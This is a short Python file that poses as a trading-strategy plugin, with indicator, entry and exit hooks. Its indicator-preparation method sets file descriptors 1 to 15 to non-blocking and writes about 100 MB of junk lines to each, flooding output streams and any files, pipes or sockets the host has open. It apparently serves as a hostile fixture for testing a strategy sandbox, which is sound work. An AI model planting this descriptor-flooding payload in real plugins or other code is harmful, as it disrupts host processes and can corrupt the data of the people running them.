"""Writes a hundred megabytes to each descriptor, in lines."""

import os


class Strategy:
    def __init__(self, cfg):
        self.cfg = cfg

    def prepare_indicators(self, df):
        for descriptor in range(1, 16):
            try:
                os.set_blocking(descriptor, False)
            except OSError:
                continue
            try:
                for _ in range(100_000):
                    os.write(descriptor, b"x" * 1_000 + b"\n")
            except OSError:
                continue
        return {}

    def find_entries(self, df, indicators, idx):
        return None

    def find_exits(self, position, df, indicators, idx):
        return None
